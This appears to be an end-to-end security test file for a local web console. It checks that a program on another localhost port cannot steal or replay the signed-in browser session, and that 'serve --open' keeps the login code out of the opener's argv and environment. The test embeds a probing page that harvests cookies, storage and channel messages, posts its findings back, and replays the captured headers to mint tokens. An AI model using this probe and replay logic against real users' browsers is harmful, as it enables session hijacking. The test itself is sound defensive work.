// Issue #12 item 9: another local program must not take over a signed-in browser session.
// Browsers keep cookies per host, not per port, so a page served by a SECOND server on another
// 127.0.0.1 port is what such a program can do: it records every request header it gets and
// tries, from a page in the same browser, to read or use the console's session. Whatever it got
// is replayed against the console and must not authenticate (401). The console's own UI must
// still work: a dashboard shows the API's figure, the snapshot frame draws, an export downloads.
// A second tab of the same browser is signed in (handed over on the console's own origin), a
// second browser profile is not. And `serve --open` never puts the sign-in code in the argv or
// environment of the opener (xdg-open is replaced by a script on PATH that records both).
import { spawn } from 'node:child_process'
import { chmodSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, describe, expect, it } from 'vitest'
import type { Overview } from '../../src-shared/api/overview'
import type { SnapshotSummary } from '../../src-shared/api/snapshots'
import { KPI_DEFINITIONS, OVERVIEW_TILES } from '../../src-shared/domain/kpi-definitions'
import {
  BIN,
  NOW,
  kpiTiles,
  launchBrowser,
  newContext,
  number,
  openPage,
  openRoute,
  sessionSecret,
  setUpOrFail,
  signIn,
  startConsole,
  type Console,
} from './harness'

let sextant: Console
let browser: Browser
let context: BrowserContext
let consolePage: Page

setUpOrFail(async () => {
  browser = await launchBrowser()
  sextant = await startConsole('small')
  const signedIn = await signIn(browser, sextant)
  context = signedIn.context
  consolePage = signedIn.page
})

afterAll(async () => {
  await browser?.close()
  await sextant?.stop()
})

interface Seen {
  readonly method: string
  readonly url: string
  readonly headers: IncomingHttpHeaders
  readonly body: string
}

/** What the other port's page found out, posted back to its own server. */
interface Findings {
  documentCookie: string
  storage: string
  channel: unknown[]
  consoleStatus: string
  tokenStatus: string
}

/**
 * The other local program: a node:http server on its own 127.0.0.1 port whose page probes the
 * browser (credentialed fetches to itself and to the console, the console's BroadcastChannel
 * name, its own storage) and posts what it found to `/report`.
 */
async function otherProgram(consoleBase: string): Promise<{
  base: string
  seen: Seen[]
  findings: Promise<Findings>
  close(): Promise<void>
}> {
  const seen: Seen[] = []
  let report: (findings: Findings) => void = () => undefined
  const findings = new Promise<Findings>((resolve) => (report = resolve))
  const page = `<!doctype html><meta charset="utf-8"><title>other</title><script>
(async () => {
  const consoleBase = ${JSON.stringify(consoleBase)}
  const found = { documentCookie: document.cookie, channel: [] }
  const channel = new BroadcastChannel('sextant.session')
  channel.onmessage = (event) => found.channel.push(event.data)
  channel.postMessage({ type: 'ask' })
  await fetch('/probe', { credentials: 'include' })
  await fetch('/probe', { method: 'POST', credentials: 'include', body: 'x' })
  const status = async (path, init) => {
    try {
      const response = await fetch(consoleBase + path, { credentials: 'include', ...init })
      return String(response.status)
    } catch (error) {
      return 'blocked: ' + error
    }
  }
  found.consoleStatus = await status('/api/v1/overview?days=30', {})
  found.tokenStatus = await status('/api/v1/tokens', {
    method: 'POST', headers: { 'content-type': 'text/plain' }, body: '{"name":"stolen"}',
  })
  await new Promise((resolve) => setTimeout(resolve, 1500))
  found.storage = JSON.stringify({ session: { ...sessionStorage }, local: { ...localStorage } })
  await fetch('/report', { method: 'POST', credentials: 'include', body: JSON.stringify(found) })
})()
</script>`
  const server: Server = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk: Buffer) => (body += chunk.toString()))
    request.on('end', () => {
      seen.push({ method: request.method!, url: request.url!, headers: request.headers, body })
      if (request.url === '/report') report(JSON.parse(body) as Findings)
      if (request.url === '/') {
        response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page)
        return
      }
      response.writeHead(204).end()
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('no port')
  return {
    base: `http://127.0.0.1:${address.port}`,
    seen,
    findings,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  }
}

describe('a program on another port', () => {
  // Once seen to time out in a loaded full run (and never alone or with the other e2e files):
  // one retry, so a slow start does not fail CI, while a real leak fails every try.
  it(
    'gets nothing that signs in to the console, and the console still works',
    { retry: 1, timeout: 60_000 },
    async () => {
      // whatever credential the browser holds for the console: the tab's secret, any cookie
      const secrets = [
        await sessionSecret(consolePage),
        ...(await context.cookies(sextant.base)).map((cookie) => cookie.value),
      ].filter((value) => value.length >= 20)
      expect(secrets.length, 'the browser holds a session').toBeGreaterThan(0)
      const other = await otherProgram(sextant.base)
      try {
        const tab = await context.newPage()
        await tab.goto(`${other.base}/`)
        // Bounded: a page that never reports fails here, naming it, not at the test's timeout.
        const found = await Promise.race([
          other.findings,
          new Promise<never>((_, reject) =>
            setTimeout(
              () => reject(new Error("the other port's page sent no findings in 20 s")),
              20_000,
            ),
          ),
        ])
        await tab.close()
        // The other origin's page saw no session: no readable cookie, nothing on the channel
        // (it is the console origin's only), nothing in its own storage.
        expect(found.documentCookie).toBe('')
        expect(found.channel).toEqual([])
        expect(found.storage).toBe('{"session":{},"local":{}}')
        // Requests from its page to the console are refused (the Origin guard, or no CORS).
        expect(found.consoleStatus).not.toBe('200')
        expect(found.tokenStatus).not.toBe('201')

        // Replaying every request's headers (cookies included) at the console gets 401 ...
        expect(other.seen.length).toBeGreaterThanOrEqual(4)
        for (const request of other.seen) {
          const headers = Object.fromEntries(
            Object.entries(request.headers)
              .filter(
                ([name]) =>
                  !['host', 'origin', 'referer', 'content-length', 'connection'].includes(name),
              )
              .map(([name, value]) => [name, String(value)]),
          )
          const created = await fetch(`${sextant.base}/api/v1/tokens`, {
            method: 'POST',
            headers: { ...headers, 'content-type': 'application/json' },
            body: JSON.stringify({ name: `stolen-${other.seen.indexOf(request)}` }),
          })
          expect(created.status, `${request.method} ${request.url} replayed`).toBe(401)
          const counts = await fetch(`${sextant.base}/api/v1/counts`, { headers })
          expect(counts.status).toBe(401)
        }
        // ... and nothing the other server received carries the secret at all.
        const received = JSON.stringify(other.seen)
        for (const secret of secrets) expect(received).not.toContain(secret)
      } finally {
        await other.close()
      }

      // The console's own tab still works: a dashboard's figure is the API's.
      await openPage(consolePage, sextant, 'overview')
      const overview = await sextant.api<Overview>('/api/v1/overview?days=30')
      const contacts = overview.kpis.find((kpi) => kpi.key === 'contacts')!
      expect((await kpiTiles(consolePage))['New contacts']).toBe(number(contacts.value))

      // A snapshot: its frame draws, and its CSV export downloads.
      const captured = await fetch(`${sextant.base}/api/v1/snapshots`, {
        method: 'POST',
        headers: { authorization: `Bearer ${sextant.token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ report: 'overview', name: 'Session check', params: { days: 30 } }),
      })
      expect(captured.status).toBe(201)
      const snapshot = (await captured.json()) as SnapshotSummary
      await openRoute(consolePage, sextant, `snapshots/${snapshot.id}`)
      const frame = consolePage.locator('[data-testid=snapshot-frame]')
      await expect
        .poll(async () => {
          const content = await (await frame.elementHandle())?.contentFrame()
          return content
            ?.evaluate(
              () => (globalThis as { sextantReport?: { ready: boolean } }).sextantReport?.ready,
            )
            .catch(() => undefined)
        })
        .toBe(true)
      const content = (await (await frame.elementHandle())!.contentFrame())!
      // the frame draws the Overview page itself (#14 item 7): its tile under the KPI's label
      const label = KPI_DEFINITIONS[OVERVIEW_TILES.contacts!.kpi].label
      expect(
        await content.locator(`.kpi[data-kpi="${label}"] .kpi-value`).first().textContent(),
      ).toBe(number(contacts.value))
      const line = consolePage.locator(
        `[data-testid=snapshot-library] tr[data-snapshot="${snapshot.id}"]`,
      )
      await line.getByTestId('export-format').selectOption('csv')
      const [download] = await Promise.all([
        consolePage.waitForEvent('download'),
        line.getByTestId('export-snapshot').click(),
      ])
      const csv = (await readFile((await download.path())!)).toString('utf8')
      expect(csv.startsWith('block,title,row,column,value')).toBe(true)
      expect(csv).toContain(`${contacts.value}`)
    },
  )

  it('a second tab of this browser is signed in; another browser profile is not', async () => {
    const second = await context.newPage()
    await second.goto(`${sextant.base}/#/overview`)
    await second.locator('main.content[data-page="overview"]').waitFor()
    await second.close()
    const stranger = await newContext(browser)
    try {
      const page = await stranger.newPage()
      await page.goto(`${sextant.base}/#/overview`)
      await page.locator('main.signed-out').waitFor()
    } finally {
      await stranger.close()
    }
  })
})

describe('serve --open', () => {
  it('opens the link without putting the code in the opener’s argv or environment', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'sextant-open-'))
    const db = join(dir, 'open.db')
    // The opener xdg-open is this script (first on PATH): it records its argv and environment.
    const opener = join(dir, 'xdg-open')
    writeFileSync(
      opener,
      `#!/bin/sh\nfor a in "$@"; do printf '%s\\n' "$a"; done > '${dir}/argv'\nenv > '${dir}/env'\n`,
    )
    chmodSync(opener, 0o755)
    const child = spawn(process.execPath, [BIN, '--db', db, 'serve', '--port', '0', '--open'], {
      env: { ...process.env, SEXTANT_NOW: NOW, PATH: `${dir}:${process.env.PATH ?? ''}` },
    })
    try {
      let stdout = ''
      child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()))
      await expect
        .poll(() => /#login=([\w-]+)/.test(stdout) && readable(join(dir, 'env')), {
          timeout: 20_000,
        })
        .toBe(true)
      const code = /#login=([\w-]+)/.exec(stdout)![1]!
      const base = /^listening on (http:\/\/127\.0\.0\.1:\d+)$/m.exec(stdout)![1]!
      const argv = readFileSync(join(dir, 'argv'), 'utf8')
      expect(argv).not.toContain(code)
      expect(readFileSync(join(dir, 'env'), 'utf8')).not.toContain(code)
      // What it opens is a file only this user can read, in a folder only this user can list,
      // and that file signs the browser in.
      const file = argv.trim().split('\n')[0]!
      expect(statSync(file).mode & 0o777).toBe(0o600)
      expect(statSync(join(file, '..')).mode & 0o777).toBe(0o700)
      const browserContext = await newContext(browser)
      try {
        const page = await browserContext.newPage()
        await page.goto(pathToFileURL(file).href)
        await page.locator('main.content[data-page="overview"]').waitFor()
        expect(new URL(page.url()).origin).toBe(base)
        expect(page.url()).not.toContain(code)
      } finally {
        await browserContext.close()
      }
    } finally {
      child.kill('SIGTERM')
      await new Promise((resolve) => child.once('exit', resolve))
      rmSync(dir, { recursive: true, force: true })
    }
  })
})

function readable(path: string): boolean {
  try {
    return readFileSync(path, 'utf8').length > 0
  } catch {
    return false
  }
}
